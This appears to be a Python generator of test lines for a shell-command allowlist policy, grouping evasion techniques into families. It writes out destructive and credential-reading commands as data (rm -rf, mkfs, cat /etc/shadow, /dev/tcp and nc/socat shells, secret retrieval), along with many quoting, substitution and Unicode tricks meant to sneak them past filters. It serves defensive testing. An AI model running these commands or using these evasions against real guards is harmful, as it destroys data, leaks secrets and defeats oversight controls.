"""Lines to be put to a policy, by family: a technique applied to many commands.

Each line is (family, path, text, wanted), where wanted is "allow" or "not-allow".  The
lines of a family differ in what they try to run, in where they stand and in how they are
spelled; policy.yaml says what may run.
"""
import itertools

# What none of these lines may run.
HARM = [
    ("rm", "-f", "./x"),
    ("rm", "-rf", "/srv/data"),
    ("dd", "if=/dev/zero", "of=./x"),
    ("chmod", "777", "./x"),
    ("mv", "./x", "./y"),
    ("cp", "/etc/shadow", "./x"),
    ("cat", "/etc/shadow"),
    ("touch", "./x"),
    ("systemctl", "stop", "cron"),
    ("curl", "http://198.51.100.7/"),
    ("kill", "-9", "1"),
    ("tee", "./x"),
    ("mkfs.ext4", "/dev/sda1"),
    ("reboot",),
]
# What may stand before or around them.
FINE = ["uptime", "df -h", "ls -l /opt", "grep x /var/log/syslog", "cat /var/log/syslog"]
# Lines where a text may stand in the middle of an allowed command.
CARRIERS = ["df -h {}", "ls {}", "grep {} /var/log/syslog", "cat /var/log/{}", "ls -l /srv {}"]


def plain(words):
    return " ".join(words)


def each(template_list, words_list=None):
    for words in words_list or HARM:
        for template in template_list:
            yield template.replace("{name}", words[0]).replace("{rest}", plain(words[1:])).replace(
                "{cmd}", plain(words))


def bare():
    yield from (plain(w) for w in HARM)
    yield from each(["/bin/{cmd}", "/usr/bin/{cmd}", "  {cmd}", "\t{cmd}\t", "{cmd} ;"])


def quoting():
    def split(name, how):
        mid = max(1, len(name) // 2)
        return how.replace("A", name[:mid]).replace("B", name[mid:]).replace("N", name).replace("H", "".join(
            "\\x%02x" % ord(c) for c in name)).replace("O", "".join("\\%03o" % ord(c) for c in name))

    forms = ["'N'", '"N"', "\\N", "A''B", 'A""B', "'A'B", "A'B'", 'A"B"', "\\A\\B", "$'N'", "$'H'", "$'O'", '$"N"',
             "A$''B", "''N", 'N""', "A\\\nB", "'A'\"B\""]
    for words in HARM:
        for form in forms:
            yield " ".join([split(words[0], form)] + list(words[1:]))


def substitution():
    forms = ["$({cmd})", "`{cmd}`", '"$({cmd})"', '"`{cmd}`"', "$(({cmd}))", "${x:-$({cmd})}", "${x:=`{cmd}`}", "<({cmd})",
             ">({cmd})", "$[{cmd}]", "x$({cmd})y", '"a b $({cmd})"', "$( {cmd} ; )", "$({cmd}>&2)", "${ {cmd}; }", "${| {cmd}; }",
             "$(($({cmd})))", "'a'$({cmd})", "\\\\$({cmd})"]
    for words in HARM[:6]:
        for form in forms:
            for carrier in CARRIERS[:3]:
                yield carrier.replace("{}", form.replace("{cmd}", plain(words)))


def chaining():
    joins = ["{a}; {cmd}", "{a};{cmd}", "{a} && {cmd}", "{a}&&{cmd}", "{a} || {cmd}", "{a} | {cmd}", "{a}|{cmd}", "{a} & {cmd}",
             "{a} |& {cmd}", "{a}\n{cmd}", "{a}\r{cmd}", "{a}\r\n{cmd}", "{cmd}; {a}", "{cmd} && {a}", "{cmd} | {a}", "({cmd})",
             "{ {cmd}; }", "! {cmd}", "{a} ;; {cmd}", "{a} &&\n{cmd}", "{a} ; ; {cmd}", "{cmd} &", "if {cmd}; then {a}; fi",
             "while {cmd}; do {a}; done", "for i in 1; do {cmd}; done", "case x in x) {cmd};; esac", "f() { {cmd}; }; f",
             "function f { {cmd}; }", "until {cmd}; do :; done", "coproc {cmd}", "time {cmd}", "[[ -f x ]] && {cmd}", "(( 1 )) && {cmd}",
             "select i in 1; do {cmd}; done", "{a}\v{cmd}", "{a}\u2028{cmd}", "{a}\u0085{cmd}"]
    for words in HARM[:8]:
        for k, join in enumerate(joins):
            yield join.replace("{a}", FINE[k % len(FINE)]).replace("{cmd}", plain(words))


def wrappers():
    around = ["env {cmd}", "env -i {cmd}", "env A=1 {cmd}", "env -S '{cmd}'", "env -u PATH {cmd}", "/usr/bin/env {cmd}", "sudo {cmd}",
              "sudo -u root {cmd}", "sudo -n {cmd}", "sudo -E {cmd}", "sudo -s {cmd}", "sudo -i {cmd}", "doas {cmd}", "doas -u root {cmd}",
              "nice {cmd}", "nice -n 5 {cmd}", "nice -10 {cmd}", "ionice -c 3 {cmd}", "timeout 5 {cmd}", "timeout -k 1 5 {cmd}",
              "timeout --signal=KILL 5 {cmd}", "stdbuf -oL {cmd}", "nohup {cmd}", "setsid {cmd}", "command {cmd}", "command -p {cmd}",
              "builtin {cmd}", "exec {cmd}", "eval {cmd}", "eval '{cmd}'", ". {cmd}", "source {cmd}", "xargs {cmd}", "xargs -n 1 {cmd}",
              "ls /srv | xargs {cmd}", "ls /srv | xargs -I X {cmd}", "time {cmd}", "/usr/bin/time {cmd}", "time -o x {cmd}", "watch {cmd}",
              "script -c '{cmd}'", "flock /tmp/l {cmd}", "parallel {cmd} ::: x", "strace {cmd}", "ltrace {cmd}", "chroot / {cmd}",
              "unshare {cmd}", "nsenter -t 1 {cmd}", "setpriv {cmd}", "capsh -- -c '{cmd}'", "taskset 1 {cmd}", "chrt 1 {cmd}",
              "prlimit {cmd}", "systemd-run {cmd}", "busybox {cmd}", "toybox {cmd}", "busybox sh -c '{cmd}'", "unbuffer {cmd}", "chronic {cmd}",
              "rlwrap {cmd}", "start-stop-daemon -S -x {cmd}", "su -c '{cmd}'", "su root -c '{cmd}'", "runuser -u root -- {cmd}",
              "ssh localhost {cmd}", "docker exec web {cmd}", "kubectl exec web -- {cmd}", "nice nice nice nice nice {cmd}",
              "timeout 5 env {cmd}", "sudo -u root nice -n 5 {cmd}", "/lib64/ld-linux-x86-64.so.2 /bin/{cmd}", "nice -n 5 bash -c '{cmd}'",
              "at now -f x; {cmd}", "fakeroot {cmd}", "torsocks {cmd}", "dbus-run-session {cmd}", "cpulimit {cmd}", "numactl {cmd}",
              "firejail {cmd}", "bwrap {cmd}", "catchsegv {cmd}", "valgrind {cmd}", "perf stat {cmd}", "daemonize {cmd}", "eatmydata {cmd}"]
    yield from each(around, HARM[:5] + [("cat", "/etc/shadow")])


def shells():
    feeds = ["sh -c '{cmd}'", "bash -c '{cmd}'", "dash -c '{cmd}'", "zsh -c '{cmd}'", "ksh -c '{cmd}'", "ash -c '{cmd}'", "bash -lc '{cmd}'",
             "bash -x -c '{cmd}'", "/bin/sh -c '{cmd}'", "bash --norc -c '{cmd}'", "bash <<< '{cmd}'", "echo '{cmd}' | sh", "echo '{cmd}' | bash -s",
             "cat /var/log/syslog | sh", "ls | bash", "sh <<E\n{cmd}\nE", "sh < /var/log/syslog", "python3 -c '{cmd}'", "perl -e 'system(\"{cmd}\")'",
             "ruby -e '`{cmd}`'", "node -e '{cmd}'", "php -r 'system(\"{cmd}\");'", "lua -e 'os.execute(\"{cmd}\")'", "awk 'BEGIN{system(\"{cmd}\")}'",
             "tclsh", "expect -c 'spawn {cmd}'", "vim -c ':!{cmd}'", "ed", "python3", "bash", "sh", "gdb -ex 'shell {cmd}'", "rbash -c '{cmd}'",
             "fish -c '{cmd}'", "osascript -e '{cmd}'", "m4", "make -f /dev/stdin", "emacs --batch --eval '{cmd}'", "sqlite3 :memory: '.shell {cmd}'"]
    yield from each(feeds, HARM[:3])


def assignments():
    forms = ["X=1 {cmd}", "LD_PRELOAD=./x.so ls", "PATH=. ls", "PATH+=:. ls", "IFS=x ls", "x={name}; $x {rest}", "x={name} ; ${x} {rest}",
             "a=({cmd}); ${a[@]}", "declare x={name}; $x", "export x={name}; $x", "x[0]={name} ls", "BASH_ENV=./x bash", "PS4='$({cmd})' ls",
             "read x; $x", "set -- {cmd}; \"$@\"", "printf -v x {name}; $x", "{name}$IFS{rest}", "{name}${IFS}{rest}", "${x:-{name}} {rest}",
             "$@{name} {rest}", "{name}$@ {rest}", "$*{name} {rest}", "${!x} {rest}", "${x/a/{name}} {rest}", "$0 -c {name}", "$1", "$_",
             "$$", "$?", "$!", "$#", "$-", "${#}", "$((1))"]
    yield from each(forms, HARM[:6])
    for carrier in CARRIERS:
        for var in ("$HOME", "${HOME}", "$1", '"$HOME"', "$(pwd)", "$'\\n'", "$RANDOM", "${x}", '"${x:0:1}"'):
            yield carrier.replace("{}", var)


def braces_and_globs():
    yield from each(["{{name},{rest}}", "{{name},-f,./x}", "{{name},}", "/bin/{{name},{name}} {rest}"], HARM[:6])
    for words in HARM[:8]:
        n = words[0]
        for form in (n[:-1] + "?", n[:-1] + "*", "?" + n[1:], "[" + n[0] + "]" + n[1:], "/bin/" + n[:-1] + "?", "/???/" + n, "/bin/*" + n[-1],
                     "/usr/bin/[" + n[0] + "]" + n[1:], "*"):
            yield " ".join((form,) + words[1:])
    for carrier in CARRIERS[:3] + CARRIERS[4:]:
        for form in ("{a,b}", "{1..3}", "/srv/{a,b}", "~", "~root", "~/x", "a=~/x", "=ls", "=(ls)", "!!", "!ls", "x!y", "/var/log/????????",
                     "/*/*/*/*/*/*/*"):
            yield carrier.replace("{}", form)
    yield from ("!!", "!rm", "!-1", "^uptime^reboot", "!$", "!*", "ls !$", "ls !*:p")


def redirections():
    targets = ["./x", "/etc/passwd", "/tmp/x", "/var/log/syslog", "/dev/sda", "/dev/tcp/198.51.100.7/80", "x", "&x", "/dev/null.x", "/dev/../tmp/x"]
    ops = [">", ">>", ">|", "&>", "&>>", "2>", "1>", "2>>", "<>", ">&", "0>", "10>", "{fd}>", "2>|"]
    for k, (target, op) in enumerate(itertools.product(targets, ops)):
        yield "%s %s %s" % (FINE[k % len(FINE)], op, target)
        if k % 3 == 0:
            yield "%s%s%s" % (FINE[k % len(FINE)], op, target)
    for source in ("/etc/shadow", "./x", "/srv/x", "/dev/tcp/198.51.100.7/80", "~/x", "/proc/self/environ", "/var/log/../../etc/shadow"):
        yield "cat < " + source
        yield "grep x <" + source
        yield "wc -l 0< " + source
    yield from ("> ./x", ">/tmp/x ls", "2>/tmp/x", "cat <<E\nx\nE", "cat <<-E\nx\nE", "cat <<< x", "ls >", "ls > ", "ls 2>", "ls >>", "ls > *",
                "ls > $x", "ls > 'a' 'b' > ./c", "ls >&2- ./x", "ls 2>&1 > ./x", "ls > /dev/null > ./x", "ls >/dev/null 3>./x", "ls >&3",
                "ls <&3", "ls 2>&-", "ls >&-", "ls <&-", "exec 3<>/dev/tcp/198.51.100.7/80")


def files():
    readers = ["cat {}", "head -n 3 {}", "tail -n 3 {}", "wc -l {}", "sort {}", "grep x {}", "cut -c 1-80 {}", "cat /var/log/syslog {}",
               "cat {} /var/log/syslog", "grep -e x {}", "cat -n {}", "cat -- {}", "tail {} -n 5", "grep -c -e x -e y {}"]
    secrets = ["/etc/shadow", "/var/log/../../etc/shadow", "/var/log/nginx/../../../etc/shadow", "/var/log/./../../etc/shadow", "/var//log/syslog",
               "//var/log/syslog", "/var/logs/x", "/var/log.d/x", "/var/lo*/x", "/v?r/log/x", "/var/log/.*/shadow", "/var/log/.?/x", "etc/shadow",
               "../etc/shadow", "./syslog", "syslog", "/proc/self/environ", "/root/.ssh/id_rsa", "-", "/var/log/.[.]/x", "'/etc/shadow'",
               "/etc/'shadow'", "/var/log/[.]./../etc/shadow", "/etc/sh*", "/*/shadow", "/dev/stdin", "~root/x", "''", "/dev/fd/0"]
    for k, (reader, secret) in enumerate(itertools.product(readers, secrets)):
        yield reader.replace("{}", secret)
    yield from ("cat", "grep x", "tail -f", "sort", "wc", "head -n 5", "cut -c 1", "uniq", "cat -", "grep -e x")


def options():
    yield from (
        "grep -f /etc/shadow /var/log/syslog", "grep -nf/etc/shadow /var/log/syslog", "grep --file=/etc/shadow /var/log/syslog",
        "grep -r x /etc", "grep -R x /var/log", "grep -P x /var/log/syslog", "grep -z x /var/log/syslog", "grep --include=x -r y /var/log",
        "grep --color root /etc/shadow", "cat /var/log/syslog | grep --color root /etc/shadow", "grep --colour=auto x /var/log/syslog",
        "grep --ignore x /var/log/syslog", "grep --coun x /var/log/syslog", "grep -e x -f /etc/shadow /var/log/syslog",
        "grep -e root /etc/shadow", "cat /var/log/syslog | grep -e root /etc/shadow", "grep x * /var/log/syslog", "grep * /var/log/syslog",
        "grep -A/etc/shadow x /etc/shadow", "grep -iex /etc/shadow", "grep -m 1 -eroot /etc/shadow",
        "sort -o ./x /var/log/syslog", "sort -o./x /var/log/syslog", "sort -uo ./x /var/log/syslog", "sort -uo./x /var/log/syslog",
        "sort -no /tmp/x /var/log/syslog", "sort --output=./x /var/log/syslog", "sort --outp=./x /var/log/syslog", "sort --o ./x /var/log/syslog",
        "sort /var/log/syslog -o ./x", "sort --compress-program=./x /var/log/syslog", "sort --compress-prog ./x -S 1 /var/log/syslog",
        "sort -T /tmp /var/log/syslog", "sort -S 1 /var/log/syslog", "sort --files0-from=/etc/shadow", "sort --files0-fro=/etc/shadow",
        "sort -t: -k1 /etc/shadow", "sort -k 1 -t : /etc/shadow", "sort --parallel=1 /var/log/syslog", "sort -m /var/log/syslog",
        "wc --files0-from=/etc/shadow", "wc --files0-from /etc/shadow", "wc --files0-fro=/etc/shadow", "wc --files0 /etc/shadow",
        "du --files0-from=/etc/shadow", "du -X /etc/shadow /srv", "du --exclude-from=/etc/shadow /srv", "du",
        "uniq /var/log/a ./x", "uniq /var/log/syslog", "cat /var/log/syslog | uniq - ./x", "cat /var/log/syslog | uniq /var/log/a",
        "tail --follow=name /var/log/syslog", "tail --pid=1 /var/log/syslog", "tail -n 3 -- /etc/shadow", "tail --lines=3 /etc/shadow",
        "tail -n /etc/shadow", "tail -n3 -c3 /etc/shadow", "tail +3 /etc/shadow", "tail -5f /etc/shadow", "head -5 /etc/shadow", "head -c5 /etc/shadow",
        "head --bytes=5 /var/log/syslog", "head -z /var/log/syslog", "head -n 5 -q /etc/shadow",
        "date -s tomorrow", "date -f /etc/shadow", "date -uf /etc/shadow", "date --set=x", "date --se=x", "date -r /etc/shadow", "date 010100002000",
        "date -us 2000-01-01", "date -d now",
        "df --output=source", "df --out", "df -h relative", "df --total -x tmpfs", "df -hx tmpfs",
        "ls --hyperlink", "ls --quoting-style=x", "ls --col=x", "ls --rec /", "ls -Z", "ls -lQ", "ls --color=auto --foo",
        "cut --output-delimiter=x -c 1 /var/log/syslog", "cut -c 1 --complement /var/log/syslog", "cut -zc 1 /var/log/syslog",
        "ps e", "ps auxe", "ps -eo pid,env", "ps eww", "ps -o environ", "ps axe", "ps --ppid 1 e", "ps -eE", "ps auxeww",
        "systemctl stop cron", "systemctl -n 5 stop cron", "systemctl --no-pager stop cron", "systemctl -n5 stop cron", "systemctl stop status",
        "systemctl -H host status cron", "systemctl -M c status cron", "systemctl --root=/x status cron", "systemctl --host=x status cron",
        "systemctl -nstatus stop cron", "systemctl -n status stop cron", "systemctl --full stop cron", "systemctl edit cron", "systemctl",
        "systemctl kill cron", "systemctl disable cron", "systemctl daemon-reload", "systemctl set-environment A=b", "systemctl --no-pag status cron",
        "systemctl isolate rescue", "systemctl link /tmp/x", "systemctl mask cron", "systemctl -- stop cron", "systemctl poweroff", "systemctl --force reboot",
        "whoami --help", "id root", "id -u", "uptime x", "uptime -h", "uptime --pretty")
    tools = {
        "find": ["/ -delete", "/var/log -exec rm {} +", "/var/log -fprint ./x", "/var/log -name x", "/var/log -maxdepth 0 -exec rm -f ./x ';'", "/var/log -ok rm ';'",
                 "/var/log -execdir sh ';'", ". -type f"],
        "sed": ["-i s/a/b/ /var/log/syslog", "-n 1p /etc/shadow", "'1e id' /var/log/syslog", "'w ./x' /var/log/syslog", "-n '1!G;h;$p' /var/log/syslog"],
        "awk": ["'{print > \"x\"}' /var/log/syslog", "'BEGIN{system(\"id\")}'", "1 /etc/shadow"],
        "tar": ["cf x /etc", "xf /var/log/x.tar", "cf /dev/null --checkpoint=1 --checkpoint-action=exec=sh x", "-I sh -xf x", "--to-command=sh -xf x"],
        "git": ["-c core.pager=sh log", "status", "-c alias.x='!sh' x", "log --output=x", "clone x"],
        "rsync": ["-e sh x y:", "/etc/shadow ./x"], "scp": ["-S ./x a b:", "/etc/shadow h:"], "ssh": ["h id", "-o ProxyCommand=id h"],
        "less": ["/var/log/syslog"], "more": ["/var/log/syslog"], "man": ["ls"], "vim": ["/etc/hosts", "-c q"], "vi": ["x"], "nano": ["x"], "emacs": ["x"],
        "top": ["", "-b"], "htop": [""], "tmux": ["new"], "screen": [""], "mysql": [""], "psql": [""], "gdb": ["-p 1"], "nc": ["-e sh h 1", "-l 1"],
        "socat": ["- EXEC:sh"], "openssl": ["enc -in /etc/shadow"], "zip": ["x.zip -TT sh /etc/shadow"], "cpio": ["-o"], "crontab": ["-e", "-l"], "at": ["now"],
        "echo": ["x"], "printf": ["x"], "test": ["-v x"], "[": ["-v x ]"], "read": ["x"], "unset": ["x"], "kill": ["1"], "wait": [""], "trap": ["id EXIT"],
        "alias": ["ls=rm"], "hash": ["-p /bin/rm ls"], "enable": ["-f x y"], "bind": ["-x id"], "set": ["-x"], "shopt": ["-s x"], "ulimit": ["-c 1"], "umask": ["0"],
        "cd": ["/", ""], "pushd": ["/"], "history": ["-c"], "fc": ["-s"], "jobs": ["-x id"], "mapfile": ["-C id x"], "compgen": ["-C id"], "complete": ["-C id x"],
        "let": ["x=1"], "declare": ["x"], "local": ["x"], "export": ["X"], "typeset": ["x"], "readonly": ["x"], "getopts": ["a b"], "logout": [""], "exit": [""],
        "strings": ["/etc/shadow"], "xxd": ["/etc/shadow"], "od": ["/etc/shadow"], "base64": ["/etc/shadow"], "diff": ["/etc/shadow /dev/null"], "tac": ["/etc/shadow"],
        "nl": ["/etc/shadow"], "rev": ["/etc/shadow"], "fold": ["/etc/shadow"], "jq": [". /etc/shadow"], "zcat": ["/var/log/x.gz"], "dmesg": ["-C"], "mount": ["/dev/sda1 /mnt"],
    }
    for tool, rests in tools.items():
        for rest in rests:
            yield (tool + " " + rest).strip()
            yield "uptime && " + (tool + " " + rest).strip()


def paths():
    for words in HARM[:6] + [("ls", "/"), ("cat", "/var/log/syslog"), ("uptime",)]:
        for form in ("./{}", "../{}", "/tmp/{}", "/bin/../bin/{}", "/usr/../bin/{}", "//bin/{}", "/bin//{}", "/bin/./{}", "bin/{}", "/usr/local/bin/{}",
                     "/home/x/{}", "~/{}", "/bin/{}/", "/opt/{}", "/proc/self/root/bin/{}", "/BIN/{}", "\\/tmp\\/{}", "'/tmp/{}'"):
            yield " ".join((form.replace("{}", words[0]),) + words[1:])


def characters():
    odd = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u2066", "\u2028", "\u2029", "\u00a0", "\u2003", "\u3000", "\u180e",
           "\u0085", "\u009b", "\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x0d", "\x0a", "\x1b", "\x1b[2K", "\x7f", "\ue000", "\ufff9", "\ufffe"]
    for c in odd:
        yield "ls%s -l" % c
        yield "ls -l /opt%s" % c
        yield "%suptime" % c
        yield "grep 'a%sb' /var/log/syslog" % c
        yield "ls '/srv/%s'" % c
    for text in ("\uff4c\uff53", "\u0440m", "\u0441at /var/log/syslog", "l\u0455", "upt\u0456me", "c\u0430t /var/log/syslog", "ls \u2014l", "ls \u2013l",
                 "ls /opt/\u00e9", "grep \u201cx\u201d /var/log/syslog", "d\u0307f", "\u006c\u0332s"):
        yield text


def limits():
    yield "ls " + "a" * 5000
    yield "ls " + "a" * 2049
    yield "ls " + " ".join(["a"] * 300)
    yield "ls '" + "a" * 4090
    yield "; ".join(["uptime"] * 17)
    yield " | ".join(["cat /var/log/syslog"] + ["sort"] * 8)
    yield "ls /" + "*/" * 7
    yield "ls " + "'" * 4095
    yield "ls " + " ''" * 2000
    yield "grep '" + "'\\''" * 1200 + "' /var/log/syslog"
    yield " " * 5000 + "ls"
    yield ""
    yield " "
    yield "\t"


def incomplete():
    for tail in ("'", '"', "\\", "|", "&&", "||", "'a", '"a', "$(", "`", "<<", ">", "<", "2>", "| |", "&& ||", "(", ")", "{", "}", ";;", "&", "'\\''\\",
                 '"\\"', "|&", "& &", "|;", ";|", "&&;"):
        for fine in FINE:
            yield fine + " " + tail
            yield fine + tail
    for head in ("|", "&&", "||", ";", "&", "(", ")", "<", ">", "|&", ";;"):
        yield head + " uptime"
        yield head


def comments():
    for fine in FINE:
        for c in (" # x", " #", "# x", ";# x", " #\nrm x", " '#' # x"):
            yield fine + c if not c.startswith("# x") else c + fine
    yield "#"


def holds():
    for line in ("systemctl restart cron", "systemctl restart --no-pager cron", "systemctl --no-pager restart cron", "uptime; systemctl restart cron",
                 "systemctl restart cron && uptime", "systemctl restart 'cron'", "/bin/systemctl restart cron", "timeout 5 systemctl restart cron",
                 "systemctl restart cron 2>/dev/null", "systemctl restart cron | cat", "systemctl restart"):
        yield line


def aws():
    yield from (
        "aws s3 rm s3://bkt/key", "aws s3 rm s3://bkt --recursive", "aws s3 cp s3://bkt/k /tmp/x", "aws s3 cp s3://bkt/k -", "aws s3 cp - s3://bkt/k",
        "aws s3 sync s3://a s3://b", "aws s3 mv s3://a/k s3://b/k", "aws s3 mb s3://bkt", "aws s3 rb s3://bkt", "aws s3 presign s3://bkt/k", "aws s3 website s3://bkt",
        "aws s3 ls --endpoint-url http://198.51.100.7", "aws s3 ls --endpoint-url=http://198.51.100.7", "aws --endpoint-url http://198.51.100.7 s3 ls",
        "aws s3 ls --endpoint http://198.51.100.7", "aws --endp http://198.51.100.7 s3 ls", "aws s3 ls --no-verify-ssl", "aws --no-verify s3 ls",
        "aws s3 ls s3://bkt --prof other", "aws --prof other s3 ls", "aws --profil=x s3 ls", "aws s3 ls --ca-bundle /x", "aws s3 ls --debug", "aws --deb s3 ls",
        "aws s3 ls --cli-input-json x", "aws sts get-caller-identity --cli-input-json file:///etc/shadow", "aws sts get-caller-identity --cli-input-yaml x",
        "aws sts get-caller-identity --generate-cli-skeleton", "aws s3 ls --recurs", "aws s3 ls --recursive --recursive", "aws --output json --output text s3 ls",
        "aws --outp text s3 ls", "aws --output=xml s3 ls", "aws --output yaml s3 ls", "aws --region eu-central-1 s3 ls", "aws --region=ap-south-1 s3 ls",
        "aws --region us-east-1 --region eu-central-1 s3 ls", "aws --reg eu-central-1 s3 ls", "aws s3 ls --region eu-central-1", "aws s3 ls --page-size 5",
        "aws s3 ls --request-payer requester", "aws s3 ls s3://a s3://b", "aws s3 ls -- s3://a", "aws s3 ls file:///etc/shadow", "aws s3 ls --query file:///etc/shadow",
        "aws sts get-caller-identity --query file:///etc/shadow", "aws sts get-caller-identity --query fileb:///etc/shadow", "aws s3 help", "aws help", "aws s3 ls help",
        "aws configure list", "aws configure get aws_secret_access_key", "aws configure export-credentials", "aws configure set x y", "aws --version", "aws",
        "aws s3", "aws sts", "aws sts assume-role --role-arn a --role-session-name b", "aws sts get-session-token", "aws sts get-federation-token --name x",
        "aws iam create-access-key", "aws ec2 terminate-instances --instance-ids i-1", "aws ec2 run-instances --image-id ami-1", "aws ec2 describe-images",
        "aws ec2 describe-instances --filters Name=x,Values=y --cli-read-timeout 1", "aws s3api list-objects --bucket b",
        "aws s3api get-object --bucket b --key k /tmp/x", "aws s3api delete-object --bucket b --key k", "aws lambda invoke --function-name f /tmp/x",
        "aws ssm start-session --target i-1", "aws ssm send-command --document-name x", "aws ssm get-parameter --name x --with-decryption",
        "aws secretsmanager get-secret-value --secret-id x", "aws kms decrypt --ciphertext-blob x", "aws ecs execute-command --task t --command sh --interactive",
        "aws ec2-instance-connect send-ssh-public-key", "aws cloudformation deploy", "aws codecommit credential-helper get", "aws ecr get-login", "aws eks get-token",
        "aws eks update-kubeconfig --name x", "aws emr ssh", "aws datapipeline list-runs", "aws deploy push", "aws s3 ls --cli-auto-prompt", "aws --cli-auto-prompt",
        "aws S3 ls", "aws s3 LS", "aws s3 list", "aws s3 l", "aws s 3 ls", "AWS s3 ls", "Aws s3 ls", "/usr/bin/aws s3 ls", "./aws s3 ls", "aws2 s3 ls",
        "aws s3 ls;id", "aws s3 ls; id", "aws s3 ls && id", "aws s3 ls | cat", "aws s3 ls > x", "aws s3 ls >x", "aws s3 ls < x", "aws s3 ls & id", "aws s3 ls $HOME",
        "aws s3 ls $(id)", "aws s3 ls `id`", "aws s3 ls \"$(id)\"", "aws s3 ls (id)", "aws s3 ls # x", "aws s3 ls 's3://b", "aws s3 ls \"s3://b", "aws s3 ls \\",
        "aws s3 ls\nid", "aws s3 ls\rid", "aws s3 ls \x00", "aws s3 ls \u200b", "aws\u00a0s3 ls", "aws s3 ls s3://\u0430", "aws s3 ls \x1b[2J",
        "ls", "id", "bash", "sh -c id", "env aws s3 ls", "sudo aws s3 ls", "nice aws s3 ls", "timeout 5 aws s3 ls", "rm -rf /", "cat /etc/shadow", "X=1 aws s3 ls",
        "AWS_PROFILE=x aws s3 ls", "exec aws s3 ls", "command aws s3 ls", "uptime", "ssm i-1 -- uptime x", "scp -t /", "/usr/lib/sftp-server", "internal-sftp",
        "git-upload-pack x", "rsync --server", "'' aws s3 ls", "''", "aws '' ls", "aws s3 ''", "aws s3 ls ''x --foo", "aws --foo s3 ls", "aws -h", "aws s3 ls -x",
        "aws --no-sign-request s3 ls", "aws s3 ls --no-sign-request", "aws s3 ls --no-paginate --no-paginate", "aws --color on --colo off s3 ls",
        "aws s3 ls --query", "aws s3 ls --output", "aws --region", "aws s3 ls --recursive=true", "aws s3 ls --human-readable=1", "aws s3 ls --summarize=x")
    for service in ("iam", "ec2", "rds", "lambda", "dynamodb", "kms", "sqs", "sns", "ecs", "eks", "cloudformation", "logs", "cloudtrail", "organizations", "route53"):
        for verb in ("delete", "create", "update", "put", "list"):
            yield "aws %s %s-something --name x" % (service, verb)
    for cut in range(3, 10):
        yield "aws sts get-caller-identity --" + "query"[:cut if cut < 5 else 4] + " Arn"
        yield "aws --" + "output"[:cut if cut < 6 else 5] + " text sts get-caller-identity"


def honest_shell():
    for path in ("/", "/opt", "/srv", "/var/log", "/etc", "/var/log/nginx", "/home/app", "/usr/share", ".", "./src", "src", "/tmp/a\\ b", "'/tmp/a b'"):
        for opt in ("", "-l ", "-la ", "-1 ", "-lhS ", "-R ", "-l -a -h ", "--all ", "--color=never ", "--human-readable -l "):
            yield ("ls %s%s" % (opt, path)).strip()
    logs = ("/var/log/syslog", "/var/log/nginx/access.log", "/var/log/nginx/error.log", "/var/log/app/app-2026-11-21.log", "/var/log/kern.log", "'/var/log/my app.log'")
    for log in logs:
        for line in ("cat {}", "cat -n {}", "head -n 20 {}", "head -20 {}", "tail -n 100 {}", "tail -100 {}", "tail -n100 {}", "tail -c 200 {}", "wc -l {}", "sort {}",
                     "grep error {}", "grep -i error {}", "grep -c 'HTTP/1.1\" 500' {}", "grep -v ' 200 ' {}", "grep -E '(warn|error)' {}", "grep -n -A 3 panic {}", "grep -A3 -B3 x {}",
                     "grep -e error -e warn {}", "grep -ie error {}", "grep -m 5 x {}", "grep --ignore-case x {}", "grep -F '$HOME' {}", "grep '^Nov 21' {}", "tail -f {}",
                     "tail -n 50 {} | grep -i error", "cat {} | wc -l", "grep x {} | sort | uniq -c | sort -rn | head -n 5", "cut -d ' ' -f 1 {} | sort -u | wc -l",
                     "tail -n 20 {} 2>/dev/null", "cat {} 2>&1 | head -n 3", "grep -q x {} && uptime", "grep x {} || df -h", "grep x {}; uptime", "timeout 5 tail -n 5 {}",
                     "nice -n 10 sort {}", "/usr/bin/tail -n 5 {}", "/bin/cat {}", "cat {} > /dev/null", "grep -c x {} < /dev/null", "grep -h -- -x {}", "sort -t: -k2,2n {}",
                     "head -c 100 {}", "grep 'rm -rf; $(reboot)' {}", "grep \"it's\" {}", "grep \"a\\\"b\" {}", "grep \\$x {}"):
            yield line.replace("{}", log)
    for line in ("uptime", "uptime -p", "df", "df -h", "df -hT", "df -h /srv", "df -h / /srv", "df -t ext4", "du -sh /srv", "du -h -d 1 /var", "du -shx / 2>/dev/null", "whoami", "id",
                 "date", "date -u", "date -R", "ps aux", "ps -ef", "ps -eo pid,comm --sort=-rss | head -n 4", "ps aux | grep nginx", "ps -ef | grep -v root | wc -l",
                 "systemctl status cron", "systemctl status cron --no-pager", "systemctl --no-pager status nginx.service", "systemctl status nginx -n 50", "systemctl -l status cron",
                 "systemctl is-active cron", "systemctl status", "uptime && df -h && whoami", "uptime; df -h; id;", "uptime || whoami", "grep -c error /var/log/nginx/*.log",
                 "ls /var/log/*.log", "cat /var/log/nginx/access.log.? | wc -l", "wc -l /var/log/[a-m]*.log", "ls -l /opt/*", "du -sh /srv/*", "ls -l 2>&1", "ls -ld /srv >/dev/null 2>&1",
                 "ls *.txt", "ls -l -- /opt", "  uptime  ", "df -h|head -n 3", "uptime&&df", "ls -l /opt|wc -l", "'uptime'", "\"df\" -h", "ls 'a;b'", "ls \"a b\"", "ls a\\;b",
                 "command uptime", "time uptime", "stdbuf -oL tail -n 5 /var/log/syslog", "ionice -c 3 du -sh /srv", "env uptime", "timeout -k 1 10s df -h", "ls 'caf\u00e9'",
                 "grep '\u00fcber' /var/log/syslog", "grep '\u65e5\u672c' /var/log/syslog | wc -l"):
        yield line


def honest_exec():
    for line in ("aws s3 ls", "aws s3 ls s3://bkt", "aws s3 ls s3://bkt/photos/ --recursive", "aws s3 ls --recursive --human-readable s3://bkt/", "aws --region us-east-1 s3 ls s3://bkt",
                 "aws --region=eu-west-1 s3 ls", "aws s3 ls s3://bkt --region eu-west-1", "aws sts get-caller-identity", "aws --output text sts get-caller-identity --query Arn",
                 "aws sts get-caller-identity --output=json", "aws sts get-caller-identity --query 'Arn'", "aws ec2 describe-instances",
                 "aws ec2 describe-instances --query Reservations[].Instances[].InstanceId --output text", "aws ec2 describe-instances --instance-ids i-0123456789abcdef0",
                 "aws ec2 describe-instances --filters Name=tag:env,Values=prod", "aws ec2 describe-instances --max-items 5", "aws s3 ls 's3://bkt/a b/'", "aws s3 ls \"s3://bkt/x\"",
